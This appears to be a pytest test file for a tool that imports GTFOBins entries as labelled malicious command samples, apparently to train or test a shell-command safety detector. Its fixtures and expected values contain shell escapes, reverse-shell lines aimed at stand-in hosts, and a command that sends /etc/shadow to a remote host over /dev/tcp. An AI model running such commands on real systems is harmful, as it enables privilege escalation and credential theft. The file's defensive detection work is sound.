"""The importer of GTFOBins checkouts, on small checkouts written here."""

import time
from collections.abc import Callable
from operator import itemgetter
from pathlib import Path

import pytest

from aegish_dist.core.sample import Dataset, Sample, TrueLabel
from aegish_dist.datasets.gtfobins import fill_in, inherited_command, read_gtfobins
from aegish_dist.errors import DatasetError
from tests.recorded import lines_of


@pytest.mark.parametrize("case", lines_of("gtfobins_filled.jsonl"), ids=itemgetter("code"))
def test_fill_in(case: dict[str, str]) -> None:
    assert fill_in(case["code"]) == case["command"]


@pytest.mark.parametrize("case", lines_of("gtfobins_inherited.jsonl"), ids=itemgetter("entry"))
def test_inherited_command(case: dict[str, str]) -> None:
    """`combined` is null where no command follows honestly."""
    combined = case.pop("combined")
    assert inherited_command(**case) == combined


COMMIT = "0123456789abcdef0123456789abcdef01234567"


Checkout = Callable[..., Path]  # writes files of a checkout, by name; returns its root


@pytest.fixture
def checkout(tmp_path: Path) -> Checkout:
    def write(**files: str) -> Path:
        directory = tmp_path / "_gtfobins"
        directory.mkdir()
        for name, text in files.items():
            (directory / name).write_text(f"---\n{text}\n...\n", encoding="utf-8")
        return tmp_path

    return write


def by_command(dataset: Dataset) -> dict[str, Sample]:
    return {sample.command: sample for sample in dataset.samples}


def test_entries_become_malicious_samples(checkout: Checkout) -> None:
    text = """
comment: about it
functions:
  shell:
  - code: |-
      7z x
      /bin/sh
    contexts: {sudo: , unprivileged: }
    version: 16.02
  reverse-shell:
  - code: 7z attacker.com:12345
    contexts:
    listener: tcp-server
    tty: false
  - code: 7z --tls attacker.com
    listener: {code: openssl s_server, comment: c}
  library-load:
  - code: 7z /path/to/lib.so
"""
    dataset = read_gtfobins(checkout(**{"7z": text})).checked()
    assert [(s.command, s.target, s.category, s.cluster) for s in dataset.samples] == [
        ("7z x\n/bin/sh", TrueLabel.MALICIOUS, "shell", "7z"),
        ("7z 10.0.0.1:4444", TrueLabel.MALICIOUS, "reverse-shell", "7z"),
        ("7z --tls 10.0.0.1", TrueLabel.MALICIOUS, "reverse-shell", "7z"),
    ]
    assert dataset.samples[0].metadata == {"version": "16.02"}
    assert (dataset.name, dataset.licence) == ("gtfobins", "GPL-3.0")


ROOT = """
functions:
  shell:
  - code: a 1
    contexts: {sudo: , suid: {shell: true}}
  - contexts: {capabilities: {code: a 2, list: [CAP_SETUID]}}
  - code: a 3
    contexts: {sudo: {code: a 3 -p}, unprivileged: {code: a 3 -u}}
  - code: a 4
    contexts: {sudo: {code: a 4 -p}, unprivileged: }
"""


def test_commands_that_need_root_are_left_out(checkout: Checkout) -> None:
    assert list(by_command(read_gtfobins(checkout(a=ROOT)).checked())) == ["a 3 -u", "a 4"]


def test_same_text_is_kept_once(checkout: Checkout) -> None:
    text = "functions: {download: [{code: a x}], shell: [{code: a x}, {code: a y}, {code: a y}]}"
    samples = read_gtfobins(checkout(a=text)).checked().samples
    assert [(s.command, s.category) for s in samples] == [("a x", "download"), ("a y", "shell")]


def test_alias_is_named_in_the_program_it_stands_for(checkout: Checkout) -> None:
    files = {"apt": "alias: apt-get", "apt-get": "functions: {shell: [{code: apt-get x}]}"}
    (sample,) = read_gtfobins(checkout(**files)).checked().samples
    assert (sample.cluster, sample.metadata) == ("apt-get", {"aliases": "apt"})


def test_inherited_functions(checkout: Checkout) -> None:
    files = {
        "less": r"""
functions:
  shell: [{code: "less /etc/hosts\n!/bin/sh"}, {code: "less /etc/hosts\n!/bin/bash"}]
  file-read: [{code: less /path/to/input-file}]
  inherit: [{code: journalctl, from: journalctl}]""",
        "journalctl": "functions: {inherit: [{code: journalctl, from: less}]}",
        "eb": "functions: {inherit: [{code: eb logs, from: journalctl}]}",
        "vigr": "functions: {inherit: [{code: vigr, from: less, contexts: {sudo: }}]}",
        "lost": "functions: {inherit: [{code: lost, from: nowhere}]}",
    }
    path = checkout(**files)
    samples = by_command(read_gtfobins(path).checked())
    assert list(samples) == [
        "eb logs\n!/bin/sh",
        "journalctl\n!/bin/sh",
        "less /etc/hosts\n!/bin/sh",
        "less /etc/hosts\n!/bin/bash",
        "less /etc/shadow",
    ]
    eb = samples["eb logs\n!/bin/sh"]
    assert (eb.category, eb.cluster, eb.metadata) == ("shell", "eb", {"inherits": "journalctl"})


@pytest.mark.parametrize(("text", "line", "field"), lines_of("gtfobins_refused.jsonl"))
def test_wrong_file(checkout: Checkout, text: str, line: int | None, field: str | None) -> None:
    """It is skipped, and its other entries with all other files are read."""
    path = checkout(a="functions: {shell: [{code: a}]}", b=text)
    draft = read_gtfobins(path)
    (skipped,) = draft.skipped
    assert "\n" not in str(skipped)
    assert skipped.source == str(path / "_gtfobins" / "b")
    assert skipped.field == field
    assert line is None or skipped.line == line
    read = ["a", "b"] if "comment: c" in text else ["a"]
    assert [sample.command for sample in draft.checked().samples] == read


def test_a_checkout_without_one_readable_entry_is_refused(checkout: Checkout) -> None:
    with pytest.raises(DatasetError, match=r"holds no samples; .*shell.*code.*: is missing"):
        read_gtfobins(checkout(b="functions: {shell: [{comment: c}]}"))


def test_keys_that_are_not_read_may_be_and_hold_anything(checkout: Checkout) -> None:
    shell = "{code: a b, 2: x, contexts: {yes: 1, sudo: 0, unprivileged: null}}"
    text = f"2026-01-01: x\nfunctions: {{shell: [{shell}]}}"
    samples = read_gtfobins(checkout(a=text, b="{alias: a, functions: 7}")).checked().samples
    assert [sample.command for sample in samples] == ["a b"]


def test_wrong_directory(tmp_path: Path) -> None:
    with pytest.raises(DatasetError, match="give the root of a GTFOBins checkout"):
        read_gtfobins(tmp_path).checked()
    (tmp_path / "_gtfobins").mkdir()
    with pytest.raises(DatasetError, match="holds no samples"):
        read_gtfobins(tmp_path).checked()


OLDER = Path(__file__).parents[2] / "data" / "gtfobins_older.md"


def test_the_older_layout_is_read(checkout: Checkout) -> None:
    path = checkout(**{"less.md": OLDER.read_text(), ".dir-locals.el": "no YAML: ["})
    samples = read_gtfobins(path).checked().samples
    assert [(s.command, s.category, s.cluster) for s in samples] == [
        ("less /etc/profile\n!/bin/sh", "shell", "less"),
        (
            'RHOST=10.0.0.1\nRPORT=4444\nLFILE=/etc/shadow\nless "$LFILE" >/dev/tcp/$RHOST/$RPORT',
            "upload",
            "less",
        ),
        ("less -l 4444", "bind-shell", "less"),
        ("TF=$(mktemp); less $TF; echo 1", "command", "less"),
    ]


def test_both_layouts_at_once_are_read(checkout: Checkout) -> None:
    files = {
        "a.md": "functions: {shell: [{code: a old}]}",
        "a": "functions: {shell: [{code: a new}]}",
        "b.md": "functions: {file-upload: [{code: b}]}",
        "c": "alias: a",
    }
    samples = by_command(read_gtfobins(checkout(**files)).checked())
    assert list(samples) == ["a new", "b"]
    assert samples["a new"].metadata == {"aliases": "c"}


@pytest.mark.parametrize(
    ("text", "message"),
    [
        *lines_of("gtfobins_hostile.jsonl"),
        (
            "functions: {shell: [{code: a, version: 0x" + "f" * 5000 + "}]}",
            "line 2: is not YAML: num",
        ),
        (
            "functions: {shell: [{code: a, version: " + "1" * 5000 + "}]}",
            "line 2: is not YAML: num",
        ),
        ("functions: " + "[" * 100_000, "line 2: is not YAML: more than 20 levels"),
        ("functions: {shell: [{code: " + "x" * 10_001 + "}]}", "has more than 10,000 characters"),
        ("#" * (2**18 + 1), "larger than 0.25 MiB"),
    ],
)
def test_hostile_files_are_skipped_at_once(checkout: Checkout, text: str, message: str) -> None:
    path = checkout(a="functions: {shell: [{code: a}]}", b=text)
    start = time.process_time()
    draft = read_gtfobins(path)
    assert time.process_time() - start < 5
    (skipped,) = draft.skipped
    assert message in str(skipped)
    assert "\n" not in str(skipped)
    assert [sample.command for sample in draft.checked().samples] == ["a"]


def test_programs_that_all_lead_to_each_other_are_refused_in_time(checkout: Checkout) -> None:
    crowd = {
        f"p{n}": "functions: {shell: [{code: x}], inherit: ["
        + ", ".join(f"{{code: go, from: p{other}}}" for other in range(12))
        + "]}"
        for n in range(12)
    }
    start = time.process_time()
    with pytest.raises(DatasetError, match="lead to more than 50,000 commands"):
        read_gtfobins(checkout(**crowd)).checked()
    assert time.process_time() - start < 20


def test_a_circle_and_a_long_chain_of_programs_end(checkout: Checkout) -> None:
    files = {
        f"p{n}": f"functions: {{shell: [{{code: 'p{n} a'}}],"
        f" inherit: [{{code: 'go p{(n + 1) % 300}', from: p{(n + 1) % 300}}}]}}"
        for n in range(300)
    }
    samples = by_command(read_gtfobins(checkout(**files)).checked())
    assert samples["go p1 a"].cluster == "p0"


GIT_LAYOUTS = {
    "detached": {".git/HEAD": COMMIT},
    "loose": {".git/HEAD": "ref: refs/heads/master\n", ".git/refs/heads/master": f"{COMMIT}\n"},
    "packed": {
        ".git/HEAD": "ref: refs/heads/master\n",
        ".git/packed-refs": f"# pack-refs with: peeled\n{'f' * 40} refs/heads/master2\n{COMMIT} refs/heads/master\n",
    },
    "worktree": {
        ".git": "gitdir: main/worktrees/w\n",
        "main/worktrees/w/HEAD": "ref: refs/heads/master\n",
        "main/worktrees/w/commondir": "../..\n",
        "main/refs/heads/master": COMMIT,
    },
    "none": {},
    "no branch": {".git/HEAD": "ref: refs/heads/none"},
    "no id": {".git/HEAD": "garbage"},
}


@pytest.mark.parametrize("layout", GIT_LAYOUTS)
def test_commit_is_recorded_if_it_is_known(checkout: Checkout, layout: str) -> None:
    path = checkout(a="functions: {shell: [{code: a}]}")
    for name, text in GIT_LAYOUTS[layout].items():
        file = path / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    commit = "unknown commit" if layout.startswith("no") else f"commit {COMMIT}"
    assert read_gtfobins(path).checked().source == f"GTFOBins, {commit}"
